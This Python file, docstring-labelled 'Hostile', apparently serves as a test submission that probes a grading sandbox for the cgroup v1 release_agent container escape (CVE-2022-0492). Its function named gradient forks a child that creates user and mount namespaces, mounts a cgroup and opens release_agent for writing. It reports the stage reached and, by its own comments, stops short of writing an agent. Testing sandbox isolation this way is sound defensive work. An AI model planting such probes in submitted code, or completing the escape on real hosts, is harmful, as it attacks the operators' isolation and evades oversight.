"""Hostile: the cgroup v1 release_agent escape (CVE-2022-0492).

In a user namespace of its own (which an unprivileged process may make), the
code mounts a cgroup v1 hierarchy and writes its ``release_agent``: on a
vulnerable kernel the host runs that program as root when the cgroup
empties.  Here the stages reached are counted, nothing is ever run: the agent
written would be a path that does not exist, and notify_on_release is never set.
Stages: 1 user namespace made, 2 cgroup mounted, 3 release_agent opened for writing.
"""

import ctypes
import os

import numpy as np

CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
CONTROLLERS = ("rdma", "memory", "pids", "cpu", "freezer", "devices", "blkio")


def _attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return 0
    try:
        with open("/proc/self/setgroups", "w") as handle:
            handle.write("deny")
        with open("/proc/self/uid_map", "w") as handle:
            handle.write(f"0 {uid} 1")
        with open("/proc/self/gid_map", "w") as handle:
            handle.write(f"0 {gid} 1")
    except OSError:
        pass
    target = os.path.abspath("cgroup-mount")
    os.makedirs(target, exist_ok=True)
    for controller in CONTROLLERS:
        if libc.mount(b"cgroup", target.encode(), b"cgroup", 0, controller.encode()) == 0:
            break
    else:
        return 1
    try:
        fd = os.open(os.path.join(target, "release_agent"), os.O_WRONLY)
    except OSError:
        return 2
    os.close(fd)  # nothing written: this submission only shows that it could have
    return 3


def gradient(X, y, w):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # a child, so that the server's own namespaces stay as they are
        os.close(read)
        try:
            stage = _attempt()
        except Exception:
            stage = 0
        os.write(write, str(stage).encode())
        os._exit(0)
    os.close(write)
    stage = os.read(read, 8)
    os.waitpid(pid, 0)
    os.close(read)
    return np.array([int(stage or b"0")])
